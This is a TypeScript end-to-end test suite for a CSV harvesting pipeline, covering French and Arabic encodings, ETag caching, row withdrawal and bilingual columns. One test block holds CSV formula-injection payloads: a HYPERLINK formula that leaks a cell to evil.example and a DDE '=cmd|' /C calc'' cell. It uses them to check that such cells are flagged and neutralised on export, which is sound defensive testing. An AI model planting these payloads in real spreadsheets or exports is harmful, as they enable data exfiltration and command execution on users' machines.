import { createHash } from 'node:crypto';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiToken } from '@hasad/db';
import { FeedServer, type FeedResponse } from '@hasad/testkit';
import { dashboardSignIn } from './helpers/dashboard.ts';
import { startTestPipeline, type TestPipeline } from './helpers/pipeline.ts';

// The whole pipeline (fetcher and loader workers, real Redis, real PostgreSQL) against CSV
// inventories served by a real HTTP server on loopback, in the encodings offices export.

interface Row {
  id: string;
  titre: string;
  description: string;
  motsCles: string;
  maj: string;
}

const ROWS: Row[] = [
  { id: 'eau-01', titre: "Qualité de l'eau potable", description: 'Analyses mensuelles par station', motsCles: 'eau, santé', maj: '15/01/2024' },
  { id: 'eau-02', titre: 'Réseau d’assainissement', description: 'Linéaire des réseaux, par commune', motsCles: 'assainissement', maj: '01/12/2023' },
  { id: 'eau-03', titre: 'Données pluviométriques', description: 'Cumuls journaliers', motsCles: 'pluie, météo', maj: '29/02/2024' },
  { id: 'eau-04', titre: 'Barrages : taux de remplissage', description: 'Relevé hebdomadaire', motsCles: 'barrages', maj: '04/03/2024' },
  { id: 'eau-05', titre: 'Nappes phréatiques', description: 'Piézométrie « réseau national »', motsCles: 'nappes, eaux souterraines', maj: '05/03/2024' },
  { id: 'eau-06', titre: 'Stations d’épuration', description: 'Capacité et rendement', motsCles: 'épuration', maj: '06/03/2024' },
  { id: 'eau-07', titre: 'Prélèvements agricoles', description: 'Volumes prélevés – irrigation', motsCles: 'agriculture, irrigation', maj: '07/03/2024' },
  { id: 'eau-08', titre: 'Qualité des eaux de baignade', description: 'Classement des plages', motsCles: 'baignade, littoral', maj: '08/03/2024' },
];

/** The ministry's export: Windows-1252, semicolons, CRLF, French headers. */
function frenchCsv(rows: Row[], extraLines: string[] = []): Buffer {
  const lines = ['Identifiant;Titre;Description;Mots-clés;Date de mise à jour', ...rows.map((r) => [r.id, r.titre, r.description, r.motsCles, r.maj].join(';')), ...extraLines];
  return iconv.encode(`${lines.join('\r\n')}\r\n`, 'windows-1252');
}

const FRENCH_CONFIG = {
  mapping: {
    identifier: 'Identifiant',
    'title.fr': 'Titre',
    'description.fr': 'Description',
    'keywords.fr': { column: 'Mots-clés', separator: ',' },
    modified: { column: 'Date de mise à jour', dateFormat: 'DD/MM/YYYY' },
  },
  constants: { 'publisher.name.fr': 'Ministère de l’Équipement et de l’Eau', license: 'Licence ouverte' },
};

const ARABIC_ROWS = [
  ['م-01', 'جودة المياه الصالحة للشرب', 'تحاليل شهرية حسب المحطة'],
  ['م-02', 'الموارد المائية', 'السدود والآبار'],
  ['م-03', 'التساقطات المطرية', 'المجاميع اليومية'],
] as const;

/** The Arabic-language office's export: Windows-1256, commas, Arabic headers, no mapping configured. */
function arabicCsv(): Buffer {
  const lines = ['المعرف,العنوان,الوصف', ...ARABIC_ROWS.map((r) => r.join(','))];
  return iconv.encode(`${lines.join('\r\n')}\r\n`, 'windows-1256');
}

/** Serves a body that tests can swap, with an ETag of its bytes; answers 304 when `conditional` and the ETag matches. */
function mountCsv(server: FeedServer, path: string, body: Buffer, opts: { etag?: boolean } = {}) {
  const ctl = { body, conditional: true, html: undefined as string | undefined, url: `${server.url}${path}` };
  server.route(path, (req): FeedResponse => {
    if (ctl.html !== undefined) return { status: 200, contentType: 'text/html; charset=utf-8', body: ctl.html };
    const etag = `"${createHash('sha1').update(ctl.body).digest('hex').slice(0, 16)}"`;
    if (opts.etag && ctl.conditional && req.headers['if-none-match'] === etag) return { status: 304, headers: { etag } };
    const headers: Record<string, string> = opts.etag ? { etag } : {};
    return { status: 200, contentType: 'text/csv', body: ctl.body, headers };
  });
  return ctl;
}

describe('CSV harvest end to end', () => {
  let p: TestPipeline;
  let server: FeedServer;

  beforeAll(async () => {
    p = await startTestPipeline(['fetcher', 'loader'], { HASAD_HARVEST_ATTEMPTS: '2', HASAD_HARVEST_BACKOFF_MS: '200' });
    server = await FeedServer.start();
  });
  afterAll(async () => {
    await p?.close();
    await server?.close();
  });

  it('harvests a Windows-1252 French file and a Windows-1256 Arabic file with every title intact', async () => {
    const fr = mountCsv(server, '/fr/inventaire.csv', frenchCsv(ROWS));
    const frId = await p.addSource(fr.url, { kind: 'csv', config: FRENCH_CONFIG });
    const frRun = await p.harvest(frId);
    expect(frRun, JSON.stringify(await p.problems(frRun.id))).toMatchObject({ status: 'succeeded', seen: 8, created: 8, updated: 0, withdrawn: 0, invalid: 0, pagesFetched: 1 });
    const frRows = await p.datasets(frId);
    expect(new Map([...frRows].map(([id, r]) => [id, r.title]))).toEqual(new Map(ROWS.map((r) => [r.id, { fr: r.titre }])));
    expect(frRows.get('eau-05')!.record).toMatchObject({
      description: { fr: 'Piézométrie « réseau national »' },
      keywords: { fr: ['nappes', 'eaux souterraines'] },
      modified: '2024-03-05',
      license: 'Licence ouverte',
      publisher: { name: { fr: 'Ministère de l’Équipement et de l’Eau' } },
    });
    const frProblems = await p.problems(frRun.id);
    expect(frProblems.find((x) => x.code === 'csv_dialect')?.message).toMatch(/^read as windows-1252 \(detected/);

    const ar = mountCsv(server, '/ar/inventaire.csv', arabicCsv());
    const arId = await p.addSource(ar.url, { kind: 'csv', config: { defaultLanguage: 'ar' } });
    const arRun = await p.harvest(arId);
    expect(arRun, JSON.stringify(await p.problems(arRun.id))).toMatchObject({ status: 'succeeded', seen: 3, created: 3, invalid: 0 });
    const arRows = await p.datasets(arId);
    expect(new Map([...arRows].map(([id, r]) => [id, r.title]))).toEqual(new Map(ARABIC_ROWS.map((r) => [r[0], { ar: r[1] }])));
    expect(arRows.get('م-02')!.record).toMatchObject({ description: { ar: 'السدود والآبار' } });
    const arProblems = await p.problems(arRun.id);
    expect(arProblems.find((x) => x.code === 'csv_dialect')?.message).toMatch(/^read as windows-1256 \(detected/);
    expect(arProblems.find((x) => x.code === 'csv_mapping')?.message).toContain('"العنوان" → title.ar');
  });

  describe('one source harvested repeatedly', () => {
    let sourceId: string;
    let ctl: ReturnType<typeof mountCsv>;
    beforeAll(async () => {
      ctl = mountCsv(server, '/ministere/inventaire.csv', frenchCsv(ROWS), { etag: true });
      sourceId = await p.addSource(ctl.url, { kind: 'csv', config: FRENCH_CONFIG });
      const first = await p.harvest(sourceId);
      expect(first).toMatchObject({ status: 'succeeded', created: 8 });
    });

    it('an unchanged file (status 200) reports every dataset unchanged and rewrites no row', async () => {
      const before = await p.datasets(sourceId);
      ctl.conditional = false;
      const run = await p.harvest(sourceId);
      ctl.conditional = true;
      expect(run).toMatchObject({ status: 'unchanged', seen: 8, unchanged: 8, created: 0, updated: 0, withdrawn: 0, pagesNotModified: 0 });
      const after = await p.datasets(sourceId);
      for (const [id, row] of before) {
        expect(after.get(id)!.updatedAt).toEqual(row.updatedAt);
        expect(after.get(id)!.contentHash).toBe(row.contentHash);
      }
      const changed = await p.rt.db.pool.query(`SELECT count(*)::int AS n FROM datasets WHERE source_id = $1 AND changed_run = $2`, [sourceId, run.id]);
      expect(changed.rows[0].n).toBe(0);
    });

    it('honours 304 when the server sends an ETag, run after run, and withdraws nothing', async () => {
      const served = server.requests.length;
      const run = await p.harvest(sourceId);
      expect(run).toMatchObject({ status: 'unchanged', seen: 8, withdrawn: 0, pagesFetched: 1, pagesNotModified: 1 });
      // The 304 page keeps the validators, so the next run is conditional too.
      const again = await p.harvest(sourceId);
      expect(again).toMatchObject({ status: 'unchanged', seen: 8, withdrawn: 0, pagesNotModified: 1 });
      const asked = server.requests.slice(served).filter((r) => r.path === '/ministere/inventaire.csv');
      expect(asked.map((r) => r.status)).toEqual([304, 304]);
      expect(asked.every((r) => r.ifNoneMatch)).toBe(true);
      expect((await p.datasets(sourceId)).size).toBe(8);
    });

    it('withdraws a dataset whose row was removed, and restores it when the row comes back', async () => {
      ctl.body = frenchCsv(ROWS.filter((r) => r.id !== 'eau-03'));
      const run = await p.harvest(sourceId);
      expect(run).toMatchObject({ status: 'succeeded', seen: 7, withdrawn: 1, pagesNotModified: 0 });
      expect((await p.datasets(sourceId, 'all')).get('eau-03')!.status).toBe('withdrawn');
      expect((await p.datasets(sourceId)).size).toBe(7);

      ctl.body = frenchCsv(ROWS);
      const back = await p.harvest(sourceId);
      expect(back).toMatchObject({ status: 'succeeded', seen: 8, updated: 1, withdrawn: 0 });
      const row = (await p.datasets(sourceId)).get('eau-03')!;
      expect(row.status).toBe('active');
      expect(row.title).toEqual({ fr: 'Données pluviométriques' });
    });

    it('an HTML page served with status 200 fails the run with a clear error and withdraws nothing', async () => {
      ctl.html = '<!DOCTYPE html><html><head><title>Portail en maintenance</title></head><body><p>Revenez plus tard.</p></body></html>';
      const run = await p.harvest(sourceId);
      ctl.html = undefined;
      expect(run.status).toBe('failed');
      expect(run.errorCode).toBe('parse_error');
      expect(run.error).toBe(`could not parse csv from ${ctl.url}: received an HTML page (Content-Type text/html), not CSV: titled "Portail en maintenance"`);
      expect(run.withdrawn).toBe(0);
      expect((await p.datasets(sourceId)).size).toBe(8);
    });

    it('a bad row shows up as a run problem and the run still succeeds', async () => {
      // A row whose title is empty, and a row whose date is not a date.
      const bad = [...ROWS.slice(0, 7), { ...ROWS[7]!, maj: '31/02/2024' }];
      ctl.body = frenchCsv(bad, ['eau-09;;Sans titre;eau;01/01/2024']);
      const run = await p.harvest(sourceId);
      ctl.body = frenchCsv(ROWS);
      expect(run).toMatchObject({ status: 'succeeded', seen: 9, invalid: 1, withdrawn: 0 });
      const problems = await p.problems(run.id);
      expect(problems).toContainEqual({ severity: 'error', code: 'missing_title', identifier: 'eau-09', message: 'line 10: the row has no title; row skipped' });
      expect(problems).toContainEqual(expect.objectContaining({ severity: 'warning', code: 'invalid_date', identifier: 'eau-08', message: expect.stringContaining('"31/02/2024" is not a valid date in DD/MM/YYYY') }));
      expect((await p.datasets(sourceId)).get('eau-08')!.record['modified']).toBeUndefined();
      expect((await p.datasets(sourceId)).has('eau-09')).toBe(false);
    });
  });
});

describe('CSV formula injection (issue 4 hostile case), end to end', () => {
  let p: TestPipeline;
  let server: FeedServer;
  let api: string;

  beforeAll(async () => {
    p = await startTestPipeline(['api', 'fetcher', 'loader'], { PORT: '0' });
    server = await FeedServer.start();
    api = p.rt.apiUrl!.replace('//0.0.0.0:', '//127.0.0.1:').replace('//[::]:', '//[::1]:');
  });
  afterAll(async () => {
    await p?.close();
    await server?.close();
  });

  it('flags the formula cells, keeps the values as data, and the dashboard problems.csv neutralises them', async () => {
    const lines = [
      'Identifiant;Titre;Description;Mots-clés;Date de mise à jour',
      'eau-01;=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici");Analyses mensuelles;eau;15/01/2024',
      "=cmd|' /C calc'!A0;Barrages;@SUM(A1:A9);barrages;04/03/2024",
      'eau-03;Données pluviométriques;Cumuls journaliers;pluie;29/02/2024',
    ];
    server.route('/hostile/inventaire.csv', { body: iconv.encode(`${lines.join('\r\n')}\r\n`, 'windows-1252'), contentType: 'text/csv' });
    const sourceId = await p.addSource(`${server.url}/hostile/inventaire.csv`, { kind: 'csv', config: FRENCH_CONFIG });
    const run = await p.harvest(sourceId);
    expect(run, JSON.stringify(await p.problems(run.id))).toMatchObject({ status: 'succeeded', seen: 3, created: 3, invalid: 0 });
    const rows = await p.datasets(sourceId);
    expect(rows.get('eau-01')!.title).toEqual({ fr: '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")' });
    expect(rows.get("=cmd|' /C calc'!A0")!.record).toMatchObject({ description: { fr: '@SUM(A1:A9)' } });
    const flagged = (await p.problems(run.id)).filter((x) => x.code === 'csv_formula_cell');
    expect(flagged.map((x) => [x.severity, x.identifier])).toEqual([
      ['warning', 'eau-01'],
      ['warning', "=cmd|' /C calc'!A0"],
      ['warning', "=cmd|' /C calc'!A0"],
    ]);
    expect(flagged[0]!.message).toContain('column "Titre" (title.fr)');

    const cookie = await dashboardSignIn(p, api);
    const res = await fetch(`${api}/dashboard/runs/${run.id}/problems.csv`, { headers: { cookie } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const csv = (await res.text()).replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(csv[0]).toBe('page,batch,severity,code,field,identifier,message');
    const exported = csv.filter((l) => l.includes('"csv_formula_cell"'));
    expect(exported).toHaveLength(3);
    // The formula identifier comes out as text ('=cmd…), and no cell of the file starts a formula.
    expect(exported[1]).toContain(`"'=cmd|' /C calc'!A0"`);
    expect(csv.filter((l) => /(^|,)"[=+\-@\t\r]/.test(l))).toEqual([]);
  });
});

describe('a bilingual CSV inventory (issue 12): two columns feed one multilingual field', () => {
  let p: TestPipeline;
  let server: FeedServer;
  let api: string;

  beforeAll(async () => {
    p = await startTestPipeline(['api', 'fetcher', 'loader'], { PORT: '0' });
    server = await FeedServer.start();
    api = p.rt.apiUrl!.replace('//0.0.0.0:', '//127.0.0.1:').replace('//[::]:', '//[::1]:');
  });
  afterAll(async () => {
    await p?.close();
    await server?.close();
  });

  it('keeps titre and العنوان, description and الوصف, each in its language, and infers the date order, through preview and a harvest; an Arabic-only row is a dataset', async () => {
    const lines = [
      'identifiant,titre,العنوان,description,الوصف,date de mise à jour',
      'b-01,Qualité de l’eau,جودة المياه,Analyses mensuelles,تحاليل شهرية,02/03/2026',
      'b-02,,السدود,,حقينة السدود,13/02/2026',
    ];
    server.route('/bilingue/inventaire.csv', { body: Buffer.from(`${lines.join('\n')}\n`, 'utf8'), contentType: 'text/csv; charset=utf-8' });
    const url = `${server.url}/bilingue/inventaire.csv`;

    const { token } = await createApiToken(p.rt.db, { role: 'operator', operatorName: 'bilingual test' });
    const res = await fetch(`${api}/api/v1/preview`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify({ kind: 'csv', url }) });
    const preview = (await res.json()) as { records: Array<{ identifier: string; title: Record<string, string>; description: Record<string, string> }>; problems: Array<{ code: string; message: string }> };
    expect(res.status, JSON.stringify(preview)).toBe(200);
    expect(preview.records.map((r) => [r.identifier, r.title])).toEqual([
      ['b-01', { fr: 'Qualité de l’eau', ar: 'جودة المياه' }],
      ['b-02', { ar: 'السدود' }],
    ]);
    expect(preview.records[0]?.description).toEqual({ '': 'Analyses mensuelles', ar: 'تحاليل شهرية' });
    const note = preview.problems.find((x) => x.code === 'csv_mapping')?.message;
    expect(note).toContain('"titre" and "العنوان" both read as title');
    // 13/02/2026 proves the column day first: 02/03/2026 is the 2nd of March, said in the note.
    expect(note).toContain('dates in "date de mise à jour" read day first (DD/MM/YYYY): "13/02/2026" on line 3 shows it');
    expect(preview.records.map((r) => (r as { modified?: string }).modified)).toEqual(['2026-03-02', '2026-02-13']);

    const sourceId = await p.addSource(url, { kind: 'csv' });
    const run = await p.harvest(sourceId);
    expect(run, JSON.stringify(await p.problems(run.id))).toMatchObject({ status: 'succeeded', seen: 2, created: 2, invalid: 0 });
    const rows = await p.datasets(sourceId);
    expect(rows.get('b-01')!.title).toEqual({ fr: 'Qualité de l’eau', ar: 'جودة المياه' });
    expect(rows.get('b-02')!.title).toEqual({ ar: 'السدود' });
    expect(rows.get('b-02')!.record).toMatchObject({ description: { ar: 'حقينة السدود' }, modified: '2026-02-13' });
    expect(rows.get('b-01')!.record).toMatchObject({ modified: '2026-03-02' });
  });
});
